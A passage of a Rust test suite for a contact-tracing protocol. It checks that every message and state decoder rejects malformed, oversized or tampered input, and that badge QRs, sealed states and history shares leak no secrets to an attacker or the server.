    fn cbor(cap: usize) -> Self {
        Self {
            too_long: "too_long",
            truncated: "truncated",
            trailing: "trailing_bytes",
            deep: "nesting_too_deep",
            deep_10k: if 10_001 > cap { "too_long" } else { "nesting_too_deep" },
            version: "unsupported_version",
            empty: "truncated",
        }
    }

    /// A fixed-length layout (the guest QR): every wrong length is `wrong_length`.
    fn fixed() -> Self {
        Self {
            too_long: "wrong_length",
            truncated: "wrong_length",
            trailing: "wrong_length",
            deep: "wrong_length",
            deep_10k: "wrong_length",
            version: "unsupported_version",
            empty: "wrong_length",
        }
    }
}

type Path<'a> = (&'static str, Box<dyn FnMut(&[u8]) -> Result<(), &'static str> + 'a>);

/// A valid sample of one decoder's input, and how to break it.
struct Sample<'s> {
    name: &'static str,
    bytes: &'s [u8],
    cap: usize,
    /// Offset of the version byte, and the other version written there.
    version: (usize, u8),
    /// Bytes before the nested arrays (a QR type byte).
    prefix: &'static [u8],
    kinds: Kinds,
}

impl<'s> Sample<'s> {
    /// A CBOR message `[1, …]`.
    fn cbor(name: &'static str, bytes: &'s [u8], cap: usize) -> Self {
        Self { name, bytes, cap, version: (1, 2), prefix: &[], kinds: Kinds::cbor(cap) }
    }

    /// A COSE_Sign1 object whose payload is `[1, …]`.
    fn cose(name: &'static str, bytes: &'s [u8], cap: usize) -> Self {
        let parts = parse_cose(bytes);
        assert!((0x80..0x98).contains(&parts.payload[0]), "{name}: a short array head");
        Self { version: (parts.payload_at + 1, 2), ..Self::cbor(name, bytes, cap) }
    }

    /// A role state `[tag, version, …]` (version 1; the health office's is 2, and its version 1 is refused).
    fn state(name: &'static str, bytes: &'s [u8], cap: usize, tag: &str) -> Self {
        let at = find(bytes, tag.as_bytes()).unwrap() + tag.len();
        let other = if bytes[at] == 0x01 { 2 } else { 1 };
        Self { version: (at, other), ..Self::cbor(name, bytes, cap) }
    }

    /// Feeds the sample and its malformed variants to every path and checks the kinds.
    fn check(&self, mut paths: Vec<Path<'_>>) {
        let (name, valid, k) = (self.name, self.bytes, &self.kinds);
        let (at, other) = self.version;
        assert!(valid.len() <= self.cap, "{name}: the sample is within the cap");
        assert!(matches!(valid[at], 0x01 | 0x02 | 0x11), "{name}: the version byte");
        let mut oversized = valid.to_vec();
        oversized.resize(self.cap + 1, 0);
        let mut trailing = valid.to_vec();
        trailing.push(0);
        let nested = |depth: usize| [self.prefix.to_vec(), vec![0x81; depth], vec![0x01]].concat();
        let mut version = valid.to_vec();
        version[at] = other;
        let cases: [(&str, Vec<u8>, &str); 7] = [
            ("oversized", oversized, k.too_long),
            ("truncated", valid[..valid.len() - 1].to_vec(), k.truncated),
            ("trailing byte", trailing, k.trailing),
            ("nested 64", nested(64), k.deep),
            ("nested 10000", nested(10_000), k.deep_10k),
            ("wrong version", version, k.version),
            ("empty", Vec::new(), k.empty),
        ];
        for (path, decode) in &mut paths {
            assert_eq!(decode(valid), Ok(()), "{name} via {path}: the valid sample");
            for (case, bytes, kind) in &cases {
                assert_eq!(decode(bytes), Err(*kind), "{name} via {path}: {case}");
            }
        }
    }
}

/// A decoding result reduced to `Ok(())` or the error's kind.
fn kind_of<T, E>(result: Result<T, E>, kind: impl Fn(&E) -> &'static str) -> Result<(), &'static str> {
    result.map(drop).map_err(|e| kind(&e))
}

/// A path through `decode`, reporting `DecodeError::kind`.
fn path<'a, T>(name: &'static str, decode: impl Fn(&[u8]) -> Result<T, DecodeError> + 'a) -> Path<'a> {
    (name, Box::new(move |b| kind_of(decode(b), DecodeError::kind)))
}

/// A path through a role's or the server's function, reporting its error's kind.
fn via<'a, E: 'a>(
    name: &'static str,
    mut run: impl FnMut(&[u8]) -> Result<(), E> + 'a,
    kind: impl Fn(&E) -> &'static str + 'a,
) -> Path<'a> {
    (name, Box::new(move |b| kind_of(run(b), &kind)))
}

#[test]
fn attack_malformed_inputs_every_decoder() {
    let mut t = Town::new(21);
    let later = NOW.plus_secs(HOUR);
    // One valid sample of every message, made by the roles themselves.
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let scan = t.scan(&code.text(), NOW);
    let ScannedVenue::Venue(venue) = Guest::scan_venue_qr(&t.venue_url, &t.registrar_cert, NOW).unwrap() else {
        panic!("the printed QR is a venue");
    };
    let self_check_in = t.alice.self_check_in(&mut t.rng, &venue, &t.daily, NOW.plus_secs(60)).unwrap();
    let own_record = CheckInRecordIn::from(self_check_in.record.clone());
    let additional = self_check_in.additional_data.unwrap().to_bytes();
    let content = AdditionalDataContent { table: Some(7), guest_name: None }.to_bytes().unwrap().to_vec();
    let checkout = t.alice.checkout(code.minute, later).unwrap().to_bytes().to_vec();
    let share = t.alice.share_history(&mut t.rng, &t.daily, NOW).unwrap().to_bytes();
    let (request, response, opened) = t.trace(later);
    let consented = &opened.check_ins[0];
    let list = t.office_a.notification_list(&mut t.rng, &[code.trace_id], &[], NOW).unwrap().to_bytes();
    // A badge without Argon2id: secrets from a random seed, signed in the
    // registrar's name by a key the test made (decoders do not verify).
    let registrar_key = RegistrarKey::generate(&mut t.rng);
    let secrets = derive::badge_secrets(&BadgeSeed::random(&mut t.rng)).unwrap();
    let badge_key = BadgePrivateKey::generate(&mut t.rng).public_key();
    let (registrar_id, rng) = (t.registrar.id(), &mut t.rng);
    let attestation =
        BadgeAttestation::issue(rng, &registrar_key, registrar_id, BadgeKeyId(1), &badge_key, &secrets, NOW).unwrap();
    let badge = BadgeQr::new(&attestation).unwrap().to_bytes();
    let guest_qr = code.qr.to_bytes();
    let record = t.server.record(code.trace_id);
    let contact_data = t.server.contact_data[&t.alice.user_id()].clone();
    let (anchor, cert_a, cert_b, rc) =
        (t.anchor.public_key(), t.cert_a.clone(), t.cert_b.clone(), t.registrar_cert.clone());
    let daily = t.daily.clone();

    // §5.1, §5.2 QR codes: the guest QR (binary, Base32 text, forwarded body),
    // the badge QR, and the scanned-text dispatch of a scanner.
    Sample { version: (0, 0x02), prefix: &[0x01], kinds: Kinds::fixed(), ..Sample::cbor("guest QR", &guest_qr, 109) }
        .check(vec![path("from_bytes", GuestCheckInQr::from_bytes)]);
    // The Base32 text is capped at 821 characters (the scanned-text cap) before it is decoded (issue 14).
    let kinds = Kinds { deep_10k: "too_long", ..Kinds::fixed() };
    Sample { version: (0, 0x02), prefix: &[0x01], kinds, ..Sample::cbor("guest QR text", &guest_qr, 109) }
        .check(vec![path("from_base32", |b| GuestCheckInQr::from_base32(&base32(b)))]);
    let body = code.qr.body().to_vec();
    Sample { version: (0, 0x02), prefix: &[0x01], kinds: Kinds::fixed(), ..Sample::cbor("guest QR body", &body, 105) }
        .check(vec![path("from_body", GuestCheckInQr::from_body)]);
    // A scanner caps the text at 821 characters before decoding it.
    let mut scanner = t.fresh_scanner();
    let rng = &mut t.rng;
    let kinds = Kinds { deep_10k: "too_long", empty: "truncated", ..Kinds::fixed() };
    Sample { version: (0, 0x02), prefix: &[0x01], kinds, ..Sample::cbor("scanned guest QR", &guest_qr, 109) }.check(
        vec![
            path("ScannedQr::from_text", |b| ScannedQr::from_text(&base32(b))),
            via("Scanner::scan", |b| scanner.scan(rng, &base32(b), NOW).map(drop), ScanError::kind),
        ],
    );
    let mut scanner = t.fresh_scanner();
    let rng = &mut t.rng;
    Sample { version: (0, 0x12), prefix: &[0x11], ..Sample::cbor("badge QR", &badge, BadgeQr::MAX_LEN) }.check(vec![
        path("from_bytes", BadgeQr::from_bytes),
        path("from_base32", |b| BadgeQr::from_base32(&base32(b))),
        path("ScannedQr::from_text", |b| ScannedQr::from_text(&base32(b))),
        // The scanner refuses the valid sample only when verifying its signature.
        via(
            "Scanner::scan",
            |b| match scanner.scan(rng, &base32(b), NOW) {
                Err(ScanError::UntrustedBadge(VerifyError::BadSignature)) => Ok(()),
                other => other.map(drop),
            },
            ScanError::kind,
        ),
    ]);
    // The badge QR's attestation with its payload version changed.
    let mut badge_version = badge.clone();
    badge_version[1 + Sample::cose("attestation in the badge QR", &badge[1..], 512).version.0] = 0x02;
    assert_eq!(BadgeQr::from_bytes(&badge_version).unwrap_err(), DecodeError::UnsupportedVersion { got: 2 });

    // §5.3 the venue QR: URL cap 2048, then base64url, then the payload's cap of 1200 and CBOR.
    let payload = VenueQr::from_url(&t.venue_url).unwrap().payload().to_vec();
    Sample::cbor("venue QR", &payload, VenueQr::MAX_PAYLOAD_LEN).check(vec![
        path("VenueQr::from_url", |b| VenueQr::from_url(&venue_url(b))),
        via(
            "Guest::scan_venue_qr",
            |b| match Guest::scan_venue_qr(&venue_url(b), &rc, NOW) {
                Err(ClientError::Invalid(e)) => Err(e),
                other => other.map(drop).map_err(|e| panic!("not a decoding error: {e}")),
            },
            DecodeError::kind,
        ),
    ]);
    let too_long = format!("{}{}", t.venue_url, "A".repeat(VenueQr::MAX_URL_LEN + 1 - t.venue_url.len()));
    assert_eq!(VenueQr::from_url(&too_long).unwrap_err(), DecodeError::TooLong { max: 2048, got: 2049 });
    assert_eq!(VenueQr::from_url(&t.venue_url.replace("/v1/", "/v2/")).unwrap_err(), DecodeError::InvalidUrl);
    assert_eq!(VenueQr::from_url(&format!("{}=", t.venue_url)).unwrap_err(), DecodeError::InvalidBase64);

    // §6 the TAN and §4.2 the badge serial, as typed by a person (no version, no CBOR).
    let tan = Tan::generate(&mut t.rng).to_string();
    assert!(Tan::parse(&tan).is_ok());
    let last = if tan.ends_with('A') { 'C' } else { 'A' };
    for (text, kind) in [
        ("A".repeat(Tan::MAX_INPUT_LEN + 1), "wrong_length"),
        (tan[..tan.len() - 1].to_owned(), "wrong_length"),
        (format!("{tan}A"), "wrong_length"),
        (String::new(), "wrong_length"),
        (tan.replace('-', "/"), "invalid_character"),
        (format!("{}{last}", &tan[..tan.len() - 1]), "bad_check_character"),
    ] {
        assert_eq!(Tan::parse(&text).unwrap_err().kind(), kind, "TAN {text:?}");
    }
    let serial = luca_protocol::badge_serial::BadgeSerial::generate(&mut t.rng).to_printed();
    assert!(luca_protocol::badge_serial::BadgeSerial::parse(&serial).is_ok());
    for (text, kind) in [
        ("0".repeat(65), "wrong_length"),
        (serial[..serial.len() - 1].to_owned(), "wrong_length"),
        (format!("{}0", serial.as_str()), "wrong_length"),
        (serial.replace('-', "U"), "invalid_character"),
    ] {
        assert_eq!(luca_protocol::badge_serial::BadgeSerial::parse(&text).unwrap_err().kind(), kind, "serial");
    }

    // §7 signed objects (the version is the payload's).
    let office_a = &mut t.office_a;
    Sample::cose("health-office certificate", &cert_a.to_bytes(), 1024).check(vec![
        path("from_slice", HealthOfficeCertificateIn::from_slice),
        via(
            "HealthOffice::install_certificate",
            |b| office_a.install_certificate(b, &anchor, NOW).map(drop),
            KeyError::kind,
        ),
    ]);
    let registrar = &mut t.registrar;
    let authority_kind = luca_healthoffice::authority::AuthorityError::kind;
    Sample::cose("registrar certificate", &rc.to_bytes(), 1024).check(vec![
        path("from_slice", RegistrarCertificateIn::from_slice),
        via(
            "Registrar::install_certificate",
            |b| registrar.install_certificate(b, &anchor, NOW).map(drop),
            authority_kind,
        ),
    ]);
    let share_bytes = t.daily_share.to_bytes();
    let office_b = &mut t.office_b;
    Sample::cose("daily key announcement", &daily.to_bytes(), 512).check(vec![
        path("from_slice", DailyKeyAnnouncementIn::from_slice),
        via("server", |b| server::daily_key_announcement(b, &cert_a, NOW).map(drop), ServerError::kind),
        via(
            "HealthOffice::import_key_share",
            |b| office_b.import_key_share(&share_bytes, b, &cert_a, NOW).map(drop),
            KeyError::kind,
        ),
    ]);
    let venue_owner = &mut t.venue;
    Sample::cose("venue descriptor", &t.descriptor.to_bytes(), 1024).check(vec![
        path("from_slice", VenueDescriptorIn::from_slice),
        via(
            "Venue::install_descriptor",
            |b| match venue_owner.install_descriptor(b, &rc, NOW) {
                Err(VenueError::MalformedDescriptor(e)) => Err(e),
                other => other.map_err(|e| panic!("not a decoding error: {e}")),
            },
            DecodeError::kind,
        ),
    ]);
    Sample::cose("private-meeting descriptor", &t.host.descriptor().to_bytes(), 1024)
        .check(vec![path("from_slice", VenueDescriptorIn::from_slice)]);
    Sample::cose("badge attestation", &attestation.to_bytes(), 512)
        .check(vec![path("from_slice", BadgeAttestationIn::from_slice)]);

    // §8 messages.
    let office_a = &t.office_a;
    Sample::cose("contact data", &contact_data, ContactDataIn::MAX_LEN).check(vec![
        path("from_slice", ContactDataIn::from_slice),
        via("server", |b| server::contact_data(b, None).map(drop), ServerError::kind),
        via("HealthOffice::decrypt_contact", |b| office_a.decrypt_contact(b, consented).map(drop), TracingError::kind),
    ]);
    let keys = [daily.clone()];
    Sample::cbor("history share", &share, HistoryShareIn::MAX_LEN).check(vec![
        path("from_slice", HistoryShareIn::from_slice),
        via("server", |b| server::history_share(b, &keys, NOW).map(drop), ServerError::kind),
        via("HealthOffice::open_history_share", |b| office_a.open_history_share(b).map(drop), TracingError::kind),
    ]);
    Sample::cbor("checkout", &checkout, CheckoutIn::MAX_LEN).check(vec![
        path("from_slice", CheckoutIn::from_slice),
        via("server", |b| server::checkout(b, &record, later).map(drop), ServerError::kind),
    ]);
    Sample::cbor("additional data", &additional, AdditionalDataIn::MAX_LEN).check(vec![
        path("from_slice", AdditionalDataIn::from_slice),
        via("server", |b| server::additional_data(b, &own_record).map(drop), ServerError::kind),
    ]);
    Sample::cbor("additional data content", &content, AdditionalDataContent::MAX_LEN)
        .check(vec![path("from_slice", AdditionalDataContent::from_slice)]);
    Sample::cbor("check-in record", &scan.record.to_bytes(), CheckInRecord::MAX_LEN).check(vec![
        path("from_slice", CheckInRecordIn::from_slice),
        via("server", |b| server::check_in_record(b, NOW, DEFAULT_FRESHNESS_SECS).map(drop), ServerError::kind),
    ]);
    Sample::cbor("inner record", &InnerRecord::Guest(code.qr.clone()).to_bytes(), InnerRecord::MAX_LEN)
        .check(vec![path("from_slice", InnerRecord::from_slice)]);
    let (venue_owner, rng) = (&t.venue, &mut t.rng);
    let records = t.server.check_ins_of(venue_owner.venue_id());
    Sample::cose("tracing request", &request.to_bytes(), TracingRequest::MAX_LEN).check(vec![
        path("from_slice", TracingRequestIn::from_slice),
        via("server", |b| server::tracing_request(b, &cert_a, later).map(drop), ServerError::kind),
        via(
            "Venue::answer_tracing_request",
            |b| match venue_owner.answer_tracing_request(rng, b, &cert_a, &records, later) {
                Err(VenueError::MalformedRequest(e)) => Err(e),
                other => other.map(drop).map_err(|e| panic!("not a decoding error: {e}")),
            },
            DecodeError::kind,
        ),
    ]);
    let cap = luca_protocol::messages::consent_response::ConsentResponse::MAX_LEN;
    Sample::cbor("consent response", &response, cap).check(vec![
        path("from_slice", ConsentResponseIn::from_slice),
        via("server", |b| server::consent_response(b, &request).map(drop), ServerError::kind),
        via(
            "HealthOffice::open_consent_response",
            |b| office_a.open_consent_response(b, &request).map(drop),
            TracingError::kind,
        ),
    ]);
    let (office_b, daily_bytes) = (&mut t.office_b, daily.to_bytes());
    Sample::cbor("key share", &share_bytes, KeyShare::MAX_LEN).check(vec![
        path("from_slice", KeyShareIn::from_slice),
        via("server", |b| server::key_share(b, &daily, &cert_b, NOW).map(drop), ServerError::kind),
        via(
            "HealthOffice::import_key_share",
            |b| office_b.import_key_share(b, &daily_bytes, &cert_a, NOW).map(drop),
            KeyError::kind,
        ),
    ]);
    Sample::cose("notification list", &list, NotificationList::MAX_LEN).check(vec![
        path("from_slice", NotificationListIn::from_slice),
        via("server", |b| server::notification_list(b, &cert_a, NOW).map(drop), ServerError::kind),
    ]);

    // The role crates' persisted states.
    let state = t.alice.export_state();
    Sample::cbor("guest state", &state, luca_client::MAX_STATE_LEN).check(vec![via(
        "Guest::import_state",
        |b| Guest::import_state(b).map(drop),
        luca_client::StateError::kind,
    )]);
    let state = t.venue.export_state();
    Sample::state("venue state", &state, luca_venue::MAX_STATE_LEN, "luca-venue/venue").check(vec![via(
        "Venue::import_state",
        |b| Venue::import_state(b).map(drop),
        luca_venue::StateError::kind,
    )]);
    let state = t.host.export_state();
    let tag = "luca-venue/private-meeting-host";
    Sample::state("meeting host state", &state, luca_venue::MAX_STATE_LEN, tag).check(vec![via(
        "PrivateMeetingHost::import_state",
        |b| PrivateMeetingHost::import_state(b).map(drop),
        luca_venue::StateError::kind,
    )]);
    let office_kind = luca_healthoffice::StateError::kind;
    let state = t.office_a.export_state();
    let cap = luca_healthoffice::MAX_STATE_LEN;
    Sample::state("health office state", &state, cap, "luca-healthoffice/health-office").check(vec![via(
        "HealthOffice::import_state",
        |b| HealthOffice::import_state(b).map(drop),
        office_kind,
    )]);
    let state = t.anchor.export_state();
    let cap = luca_healthoffice::authority::MAX_ANCHOR_STATE_LEN;
    Sample::state("trust anchor state", &state, cap, "luca-healthoffice/trust-anchor").check(vec![via(
        "TrustAnchor::import_state",
        |b| TrustAnchor::import_state(b).map(drop),
        office_kind,
    )]);
    let state = t.registrar.export_state();
    let cap = luca_healthoffice::authority::MAX_REGISTRAR_STATE_LEN;
    Sample::state("registrar state", &state, cap, "luca-healthoffice/registrar").check(vec![via(
        "Registrar::import_state",
        |b| Registrar::import_state(b).map(drop),
        office_kind,
    )]);
}

/// An `import_state` of one role, reporting the one state error of every role.
type StateImport = fn(&[u8]) -> Result<(), luca_protocol::state::StateError>;

/// Every role's `import_state` goes through the one state codec: the same bad input gives the same error
/// (`luca_client::StateError`, `luca_venue::StateError` and `luca_healthoffice::StateError` are one type), and
/// every role's state is `wrong_state_type` to every other role.
#[test]
fn attack_state_imports_agree_on_bad_input() {
    use luca_protocol::state::StateError;
    let t = Town::new(28);
    let imports: [(&str, StateImport, Vec<u8>); 6] = [
        ("Guest", |b| Guest::import_state(b).map(drop), t.alice.export_state().to_vec()),
        ("Venue", |b| Venue::import_state(b).map(drop), t.venue.export_state().to_vec()),
        ("PrivateMeetingHost", |b| PrivateMeetingHost::import_state(b).map(drop), t.host.export_state().to_vec()),
        ("HealthOffice", |b| HealthOffice::import_state(b).map(drop), t.office_a.export_state().to_vec()),
        ("TrustAnchor", |b| TrustAnchor::import_state(b).map(drop), t.anchor.export_state().to_vec()),
        ("Registrar", |b| Registrar::import_state(b).map(drop), t.registrar.export_state().to_vec()),
    ];
    let ten_mb = vec![0u8; 10_000_000];
    let too_long = |e: StateError| match e {
        StateError::TooLong { got, .. } => (e.kind(), got),
        other => panic!("{other:?}"),
    };
    for (name, import, own) in &imports {
        assert_eq!(import(own), Ok(()), "{name}: its own state");
        assert_eq!(import(&[]), Err(StateError::Truncated), "{name}: empty");
        assert_eq!(import(b"\x80"), Err(StateError::WrongStateType), "{name}: an empty array");
        assert_eq!(import(&ten_mb).map_err(too_long), Err(("too_long", 10_000_000)), "{name}: 10 MB");
        assert_eq!(import(&[0xff]), Err(StateError::MalformedCbor), "{name}: 0xff");
        assert_eq!(import(&[0x81, 0x01, 0x00]), Err(StateError::TrailingBytes), "{name}: trailing byte");
        assert_eq!(import(&[0x81, 0x18, 0x01]), Err(StateError::NonCanonical), "{name}: 1 as 18 01");
        assert_eq!(import(&[0xa0]), Err(StateError::NonCanonical), "{name}: a map");
        assert_eq!(import(&[0x81, 0x81, 0x81, 0x81, 0x01]), Err(StateError::NestingTooDeep), "{name}: depth 4");
        // Another role's state: of another type, unless it is over this role's size cap (checked first).
        for (other, _, state) in imports.iter().filter(|(other, ..)| other != name) {
            match import(state) {
                Err(StateError::TooLong { max, got }) => assert!(got == state.len() && got > max, "{name}: {other}"),
                result => assert_eq!(result, Err(StateError::WrongStateType), "{name}: the state of {other}"),
            }
        }
    }
}

#[test]
fn attack_sealed_state_with_a_wrong_key_a_changed_byte_or_another_roles_envelope() {
    use luca_protocol::state::{StateError, StateKey};
    let mut t = Town::new(29);
    let key = StateKey::generate(&mut t.rng);
    let thief = StateKey::generate(&mut t.rng);
    type Open = fn(&[u8], &StateKey) -> Result<Vec<u8>, StateError>;
    let sealed: [(&str, Open, Vec<u8>, Vec<u8>); 6] = [
        (
            "Guest",
            |b, k| Guest::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.alice.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.alice.export_state().to_vec(),
        ),
        (
            "Venue",
            |b, k| Venue::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.venue.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.venue.export_state().to_vec(),
        ),
        (
            "PrivateMeetingHost",
            |b, k| PrivateMeetingHost::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.host.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.host.export_state().to_vec(),
        ),
        (
            "HealthOffice",
            |b, k| HealthOffice::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.office_a.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.office_a.export_state().to_vec(),
        ),
        (
            "TrustAnchor",
            |b, k| TrustAnchor::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.anchor.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.anchor.export_state().to_vec(),
        ),
        (
            "Registrar",
            |b, k| Registrar::import_state_encrypted(b, k).map(|x| x.export_state().to_vec()),
            t.registrar.export_state_encrypted(&mut t.rng, &key).unwrap(),
            t.registrar.export_state().to_vec(),
        ),
    ];
    for (name, open, bytes, plain) in &sealed {
        assert_eq!(open(bytes, &key).as_deref(), Ok(plain.as_slice()), "{name}: restores exactly its state");
        assert_eq!(open(bytes, &thief), Err(StateError::DecryptionFailed), "{name}: another key");
        let mut changed = bytes.clone();
        let last = changed.len() - 1;
        changed[last] ^= 1;
        assert_eq!(open(&changed, &key), Err(StateError::DecryptionFailed), "{name}: a changed byte");
        let head = &plain[..plain.len().min(16)];
        assert!(!bytes.windows(head.len()).any(|w| w == head), "{name}: the plain state does not show");
        for (other, _, other_bytes, _) in sealed.iter().filter(|(o, ..)| o != name) {
            match open(other_bytes, &key) {
                Err(StateError::TooLong { .. }) | Err(StateError::WrongStateType) => {}
                result => panic!("{name} opened the sealed state of {other}: {result:?}"),
            }
        }
    }
}

// ---------------------------------------------------------------- 13. badges

#[test]
fn attack_badge_photo() {
    let mut t = Town::new(22);
    // Office A rotates a badge key and shares it; the registrar issues a badge
    // (Argon2id of the printed serial); its owner personalises it with the serial.
    let rotation =
        t.office_a.rotate_badge_key(&mut t.rng, BadgeKeyId(1), NOW, std::slice::from_ref(&t.cert_b)).unwrap();
    let badge_key = server::daily_key_announcement(rotation.announcement.as_bytes(), &t.cert_a, NOW).unwrap();
    t.office_b.import_key_share(rotation.shares[0].as_bytes(), badge_key.as_bytes(), &t.cert_a, NOW).unwrap();
    let issued = t.registrar.issue_badge(&mut t.rng, &badge_key, NOW).unwrap();
    // The owner's secrets, derived from the serial (what `BadgeOwner::from_serial`
    // derives; one Argon2id evaluation here instead of two).
    let secrets = issued.serial.derive_secrets().unwrap();
    let berta = fields("Berta", "Badge", "+49 221 5555555");
    let personalised =
        ContactData::seal(&mut t.rng, &secrets.signing_key, secrets.user_id, &secrets.data_secret, &berta, NOW);
    t.server.contact_data(personalised.unwrap().as_bytes()).unwrap();
    let scan = t.scan(&issued.qr.to_base32(), NOW);
    assert_eq!(scan.source, CheckInSource::Badge);

    // The attacker has a photo of the badge QR: its text, nothing else.
    let photo = issued.qr.to_base32();
    let qr = BadgeQr::from_base32(&photo).unwrap();
    let bytes = qr.to_bytes();
    let attestation = qr.attestation();
    let trace_key = attestation.trace_key();

    // (a) The sealed user id and data secret open with no key the attacker has:
    // a fresh badge key, or keys made from anything in the QR.
    assert_eq!(
        attestation.open_unverified(&BadgePrivateKey::generate(&mut t.rng)).unwrap_err(),
        OpenError::DecryptionFailed
    );
    for window in bytes.windows(32).step_by(8) {
        if let Ok(key) = BadgePrivateKey::from_slice(window) {
            assert_eq!(attestation.open_unverified(&key).unwrap_err().kind(), "decryption_failed");
        }
    }

    // (b) None of the badge's secrets (derived from the serial, which the
    // photo does not show), nor the serial, is in the QR, and the trace key is
    // none of them.
    assert_eq!(secrets.user_id, issued.user_id);
    let tracing = secrets.tracing_secret.expose_secret();
    let signing = secrets.signing_key.to_bytes();
    let contact_key = derive::contact_data_key(&secrets.data_secret);
    let hidden: [(&str, &[u8]); 6] = [
        ("user id", secrets.user_id.as_bytes()),
        ("data secret", secrets.data_secret.expose_secret()),
        ("tracing secret", tracing),
        ("signing key", signing.as_slice()),
        ("serial", &*issued.serial.expose_secret()),
        ("contact-data key", contact_key.expose_secret()),
    ];
    for (what, secret) in hidden {
        assert!(!contains(&bytes, secret), "the {what} is not in the badge QR");
        assert!(!contains(secret, trace_key.expose_secret()), "the trace key is not the {what}");
        for half in secret.chunks(8) {
            assert!(!contains(&bytes, half), "no 8 bytes of the {what} are in the badge QR");
        }
    }
    assert!(!contains(&bytes, &tracing[..16]) && !contains(&bytes, &tracing[16..]));
    assert!(!contains(photo.as_bytes(), base32(secrets.user_id.as_bytes()).as_bytes()));

    // (c) What the photo does give — the badge's trace ids, the accepted
    // linkability of a static code: exactly the scanner's.
    let minute = NOW.minute();
    let photo_trace = derive::trace_id(&derive::badge_checkout_proof(&trace_key, minute));
    assert_eq!(photo_trace, scan.trace_id);
    assert_eq!(photo_trace, derive::trace_id(&derive::badge_checkout_proof(&secrets.trace_key, minute)));

    // (d) The badge's contact data on the server opens with nothing derivable
    // from the QR. The photo does not even name the user id to look it up
    // under; with the user id handed over, every 16 bytes of the QR, the trace
    // key, the trace id and the checkout proof fail as the data secret.
    let stored = t.server.contact_data[&issued.user_id].clone();
    let proof = derive::badge_checkout_proof(&trace_key, minute);
    let mut candidates: Vec<Vec<u8>> = bytes.windows(16).step_by(4).map(<[u8]>::to_vec).collect();
    candidates.push(trace_key.expose_secret().to_vec());
    candidates.push(photo_trace.as_bytes().to_vec());
    candidates.push(proof.expose_secret()[..16].to_vec());
    candidates.push(proof.expose_secret()[16..].to_vec());
    for candidate in &candidates {
        let data_secret = DataSecret::from_slice(candidate).unwrap();
        let err = ContactDataIn::from_slice(&stored).unwrap().open(&issued.user_id, &data_secret).unwrap_err();
        assert_eq!(err, OpenError::DecryptionFailed);
    }

    // Only a health office with the badge key, through the venue's consent,
    // reads the badge's user id and contact data.
    let (_, _, opened) = t.trace(NOW.plus_secs(HOUR));
    let check_in = &opened.check_ins[0];
    assert_eq!((check_in.source, check_in.secrets.user_id), (CheckInSource::Badge, issued.user_id));
    assert_eq!(t.contact(check_in).unwrap().fields, berta);
}

// ------------------------------------------------------ 15. history shares

#[test]
fn attack_server_reads_history_share() {
    let mut t = Town::new(23);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let code = t.bob.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let at = NOW.plus_secs(HOUR);
    let share = t.alice.share_history(&mut t.rng, &t.daily, at).unwrap().to_bytes();
    let tan = t.server.history_share(&mut t.rng, &share, std::slice::from_ref(&t.daily), at).unwrap();

    // The server holds the share: it opens with no key the server can make.
    let parsed = HistoryShareIn::from_slice(&share).unwrap();
    for _ in 0..3 {
        let err = parsed.open(&DailyPrivateKey::generate(&mut t.rng)).unwrap_err();
        assert_eq!(err, OpenError::DecryptionFailed);
        assert_eq!(err.kind(), "decryption_failed");
    }
    // A share sealed to a key the server substituted (under an id nobody
    // announced) is refused on upload; the app seals only to verified keys.
    let substitute = DailyPrivateKey::generate(&mut t.rng);
    let day = at.day();
    let user_id = UserId::random(&mut t.rng);
    let secret = DailyTracingSecret::random(&mut t.rng);
    let data_secret = DataSecret::random(&mut t.rng);
    let forged = luca_protocol::messages::history_share::HistoryShare::seal(
        &mut t.rng,
        DailyKeyId(DailyKeyId::for_day(day).0.wrapping_add(1)),
        &substitute.public_key(),
        &user_id,
        &data_secret,
        &[(day, &secret)],
        at,
    )
    .unwrap();
    let before = t.server.clone();
    let err = t.server.history_share(&mut t.rng, forged.as_bytes(), std::slice::from_ref(&t.daily), at).unwrap_err();
    assert_eq!(err, ServerError::UnknownDailyKey);
    assert_eq!(err.kind(), "unknown_daily_key");
    // A share replayed later than 300 s is refused.
    let err =
        t.server.history_share(&mut t.rng, &share, std::slice::from_ref(&t.daily), at.plus_secs(301)).unwrap_err();
    assert_eq!(err.kind(), "expired");
    assert_eq!(t.server, before);

    // The health office opens it (by TAN, checked before anything is fetched)
    // and computes the trace ids itself.
    let err = t.office_a.fetch_history("AAAA-AAAA-AAAC", |_| panic!("no lookup for a TAN with a wrong check symbol"));
    assert_eq!(err.unwrap_err().kind(), "bad_check_character");
    let history = t.office_a.fetch_history(&tan.to_string(), |t2| t.server.history_by_tan(t2)).unwrap();
    assert_eq!(history.user_id, t.alice.user_id());
    let matches = match_check_ins(&history, t.server.records.values());
    assert_eq!(matches.len(), 1, "only Alice's check-in, not Bob's");

    // None of what the share protects is in what the server sees: not in the
    // share, not in the tracing request, not in the consent response.
    let request = t.request(matches[0].window(HOUR, HOUR), at);
    let (_, response, opened) = t.trace(at);
    assert_eq!(opened.check_ins.len(), 2);
    let mut seen = vec![share.clone(), request.to_bytes(), response];
    seen.extend(t.server.announcements.iter().cloned());
    let alice_traces: Vec<TraceId> =
        luca_healthoffice::trace_ids_of_history(&history).into_iter().map(|(t, _)| t).collect();
    for bytes in &seen {
        for (_, secret) in &history.days {
            assert!(!contains(bytes, secret.expose_secret()), "no tracing secret");
            assert!(!contains(bytes, &secret.expose_secret()[..16]));
        }
        assert!(!contains(bytes, history.user_id.as_bytes()), "no user id");
        assert!(!contains(bytes, history.data_secret.expose_secret()), "no data secret");
    }
    // The share and the request carry no trace id either: the server never
    // learns which of its records belong to the infected guest.
    for bytes in &seen[..2] {
        assert!(alice_traces.iter().all(|t| !contains(bytes, t.as_bytes())));
    }
}

// ----------------------------------------------------- 16. and 17. notification lists

#[test]
